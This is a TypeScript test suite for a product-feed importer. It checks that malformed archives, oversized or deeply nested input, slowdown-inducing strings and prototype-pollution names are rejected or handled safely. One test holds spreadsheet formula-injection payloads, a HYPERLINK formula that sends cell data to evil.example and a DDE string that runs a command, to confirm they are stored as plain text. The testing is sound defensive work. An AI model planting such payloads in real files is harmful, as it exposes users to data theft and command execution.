import { join } from 'node:path'
import { truncateSync, writeFileSync } from 'node:fs'
import { gzipSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { importFile } from '../../../src/catalog-service/import/import-file.ts'
import {
  GTINS,
  type StoreUnderTest,
  importRows,
  importText,
  createProduct,
  openTestStore,
  fetchProducts,
} from '../harness.ts'
import { readFeedText } from './read-feed-text.ts'
import { selectCases } from '../../helpers/property-runs.ts'

const MIB = 1024 * 1024

const HEAD = 'gtin,title,link,price\n'
const GOOD_ROW = '00000000000017,T,https://shop.example/,1.00 EUR\n'
const ITEM =
  '<item><g:gtin>00000000000017</g:gtin><title>T</title><link>https://shop.example/</link><g:price>1 EUR</g:price>'
const RSS = `<rss><channel>${ITEM}</item>`

async function fetchGtins(fixture: StoreUnderTest, channelId: string): Promise<string[]> {
  return (await fetchProducts(fixture, channelId)).map(({ gtin }) => gtin)
}

describe('feed that is rejected as a whole', () => {
  const deep = `<rss><channel>${ITEM}</item>${'<a>'.repeat(200_000)}`
  const columns = Array.from({ length: 10_000 }, (_, index) => `c${index}`).join(',')

  it.each([
    ['quote not closed', `${HEAD}${GOOD_ROW}00000000000024,"T`, 'a quoted cell is not closed'],
    [
      'cell of 9 MiB',
      `${HEAD}${GOOD_ROW}00000000000024,"${'x'.repeat(9 * MIB)}",`,
      'a row is longer than 8388608 bytes',
    ],
    ['10,000 columns', `${HEAD.trim()},${columns}\n${GOOD_ROW}`, '10004 columns'],
    ['XML cut off', `${RSS}\n<item>`, 'the file ends before <item> (line 2) is closed'],
    ['XML nested too deeply', deep, 'more than 100 deep'],
    [
      'XML with an entity declaration',
      `<!DOCTYPE a [<!ENTITY b "c">]>${RSS}</channel></rss>`,
      'document type',
    ],
    ['truncated zip', 'PK\u0003\u0004x', 'is a damaged or truncated zip file'],
    ['unknown format', 'hello', 'is not recognised'],
    [
      'no usable row',
      `${HEAD}00000000000018,T,https://shop.example/,1 EUR\n`,
      'gtin: the check digit is wrong (1)',
    ],
  ])('%s - ImportError, nothing changed', async (_, text, message) => {
    const fixture = await openTestStore()
    const { channelId } = await importRows(fixture, [createProduct('31')])
    await expect(importText(fixture, text, { feedName: 'new' })).rejects.toMatchObject({
      code: 'VITRINE_IMPORT_FAILED',
      message: expect.stringContaining(message),
    })
    expect(await fetchGtins(fixture, channelId)).toEqual([GTINS[2]])
  })

  it.each([
    ['table', HEAD, GOOD_ROW],
    ['XML', '<rss><channel>', `${ITEM}</item>\n`],
  ])('truncated gzip of a %s - ImportError, nothing changed', async (_, head, row) => {
    const fixture = await openTestStore()
    const { channelId } = await importRows(fixture, [createProduct('31')])
    const rows = Array.from({ length: 20_000 }, (_, index) => row.replace('T', `T${index * 7_919}`))
    const file = join(fixture.folder, 'feed.gz')
    writeFileSync(file, gzipSync(head + rows.join('')))
    truncateSync(file, 20_000)
    await expect(importFile({ store: fixture.store, file })).rejects.toThrow('it is truncated')
    expect(await fetchGtins(fixture, channelId)).toEqual([GTINS[2]])
  })
})

describe('feed with hostile cells', () => {
  const awin =
    'merchant_deep_link,search_price,product_price_old,alternate_image,stock_quantity,isbn,brand_name'
  const google = 'sale_price,sale_price_effective_date,additional_image_link,availability,condition,brand'

  it.each(
    selectCases([
      ['white space', ' '.repeat(200_000)],
      ['commas and white space', ' ,'.repeat(100_000)],
      ['digits', '1'.repeat(200_000)],
      ['groups of digits', '1,111 '.repeat(30_000)],
      ['unfinished tags', '<a '.repeat(60_000)],
      ['unfinished entities', '&#1'.repeat(60_000)],
      ['hyphens', '-'.repeat(200_000)],
    ]),
  )('%s - 200 kB, in every column - takes no longer than harmless text', async (_, piece) => {
    const startedAtMs = performance.now()
    for (const names of [`product_name,${awin}`, google]) {
      for (const cell of [`"a${piece}b"`, `"1${piece}1"`]) {
        const cells = names.split(',').map(() => cell)
        await readFeedText(`${names},${HEAD}${cells.join(',')},${GOOD_ROW}`)
        await readFeedText(
          `${names},${HEAD}${cells.join(',')},00000000000017,${cell},https://shop.example/,${cell}\n`,
        )
      }
    }
    expect(performance.now() - startedAtMs).toBeLessThan(60_000)
  })

  it('leading blank lines - take no longer than harmless text', async () => {
    const startedAtMs = performance.now()
    await expect(readFeedText('\n'.repeat(500_000))).rejects.toThrow('is empty')
    expect(performance.now() - startedAtMs).toBeLessThan(60_000)
  })

  it.each(['<productFeed ', '<properties>', '<html ', '{"next_cursor":"', '[', 'HDR|'])(
    'beginning of %j - 100,000 times - takes no longer than harmless text',
    async (piece) => {
      const startedAtMs = performance.now()
      await readFeedText(piece.repeat(100_000)).catch(() => {})
      expect(performance.now() - startedAtMs).toBeLessThan(60_000)
    },
  )

  it('formulas, markup and commands - in every cell - are imported as plain text', async () => {
    const title = `=HYPERLINK(""https://evil.example/?x=""&A1,""x"")`
    const fixture = await openTestStore()
    const summary = await importText(
      fixture,
      `gtin,title,link,price,brand\n00000000000017,"${title}",https://shop.example/,1.00 EUR,+cmd|' /C calc'!A0\n`,
    )
    const items = await fetchProducts(fixture, summary.channelId)
    expect(items).toMatchObject([
      { title: '=HYPERLINK("https://evil.example/?x="&A1,"x")', brand: "+cmd|' /C calc'!A0" },
    ])
  })

  it('names of JavaScript properties - as columns and elements - have no special meaning', async () => {
    const names = '__proto__,constructor,toString'
    const table = await readFeedText(`${names},${HEAD}a,b,c,${GOOD_ROW}`)
    expect(table.products).toHaveLength(1)
    const xml = await readFeedText(
      `${RSS.slice(0, -7)}<__proto__>a</__proto__><constructor>b</constructor></item></channel></rss>`,
    )
    expect(xml.products).toHaveLength(1)
  })
})
